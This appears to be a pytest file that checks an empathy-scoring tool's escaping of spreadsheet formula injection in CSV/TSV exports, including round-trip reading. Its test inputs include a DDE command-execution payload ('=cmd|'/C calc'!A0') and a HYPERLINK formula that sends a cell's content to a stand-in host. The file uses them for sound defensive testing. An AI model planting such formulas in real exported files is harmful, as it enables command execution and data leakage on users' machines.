"""CSV and TSV are safe to open in a spreadsheet, and read back as they were."""

import csv
import re

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from by_hand import written
from empathy_score import read_transcripts
from empathy_score.conversation import Marker
from empathy_score.scored import read_scores
from empathy_score.transcripts.spreadsheets import harmless, restored
from empathy_score.writing import write_table

RISKY = ("=1+1", '=HYPERLINK("http://x.example?a="&A1,"so sorry")', "+1 (555) 010-0199",
         "-so sorry", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "'=1+1",
         "''=1+1", "--",
         "-1+1", "=cmd|'/C calc'!A0", "+", "-5 is wrong")  # fmt: skip
PLAIN = ("so sorry", "'so sorry'", "-1.5", "+44", "1e5", "-2E-3", "", "5 = 5", "a\t=b", "'", "''")


@pytest.mark.parametrize("text", RISKY)
def test_what_a_spreadsheet_would_run_begins_with_an_apostrophe(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_and_numbers_stay(text):
    assert harmless(text) == text


starts = st.text("'=+-@\t\r\n ＝1.e", max_size=6)


@given(st.tuples(starts, st.text(max_size=5)).map("".join))
@example("'-1")
@example("-1")
def test_every_text_is_given_back(text):
    made = harmless(text)
    assert restored(made) == text
    assert harmless(restored(made)) == made
    assert re.match(r"\s*[=+\-@＝＋－＠]|[\t\r\n]", made) is None or float(made) == float(text)


@pytest.fixture
def scores():
    rows = [
        {"conversation_id": f"=c{i}", "role": "agent", "text": text, "agent_id": text,
         "emotion": -1.5, "care": -0.25}
        for i, text in enumerate((*RISKY, *PLAIN))
    ]  # fmt: skip
    markers = {}
    for i, row in enumerate(rows):
        place = row["text"].find("so sorry")
        if place >= 0:
            markers[i] = (Marker("regret", place, place + 8, "so sorry", 0.9),)
    return written(rows, markers)


@pytest.mark.parametrize(("form", "separator"), [("csv", ","), ("tsv", "\t")])
def test_a_written_table_is_safe_and_reads_back(scores, tmp_path, form, separator):
    turns = scores.turns().assign(**{"=cmd()": "=2", "+1": 3, "when": pd.Timestamp("2026-01-02")})
    path = tmp_path / f"scored.{form}"
    write_table(turns, path)
    with path.open(encoding="utf-8", newline="") as file:
        table = list(csv.reader(file, delimiter=separator))
    numbers = re.compile(r"[+-]?\d+(\.\d+)?([eE][+-]?\d+)?")
    for cell in (cell for row in table for cell in row if not numbers.fullmatch(cell)):
        assert not cell.strip(" ").startswith(tuple("=+-@＝\t\r\n")), cell
    care = [row[table[0].index("care")] for row in table[1:]]
    assert set(care) == {"-0.25"}
    assert '"-0.25"' not in path.read_text(encoding="utf-8")
    again = read_scores(path)
    assert again.markers == scores.markers
    for column in ("text", "agent_id"):
        assert again.table[column].fillna("").tolist() == [*RISKY, *PLAIN]
    assert again.table["conversation_id"].tolist() == scores.table["conversation_id"].tolist()
    assert set(again.table["=cmd()"]) == {"=2"}
    assert set(again.table["+1"]) == {"3"}


@pytest.mark.parametrize("form", ["jsonl", "parquet"])
def test_other_forms_hold_the_texts_as_they_are(scores, tmp_path, form):
    path = tmp_path / f"scored.{form}"
    write_table(scores.turns(), path)
    read = pd.read_parquet(path) if form == "parquet" else pd.read_json(path, lines=True)
    assert read["text"].tolist() == [*RISKY, *PLAIN]


def test_a_table_of_others_is_taken_at_its_word(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("conversation_id,role,text,signature\n1,agent,'=1+1,'=x\n")
    table = read_transcripts(path).table
    assert table["text"].tolist() == ["'=1+1"]
    assert table["signature"].tolist() == ["'=x"]
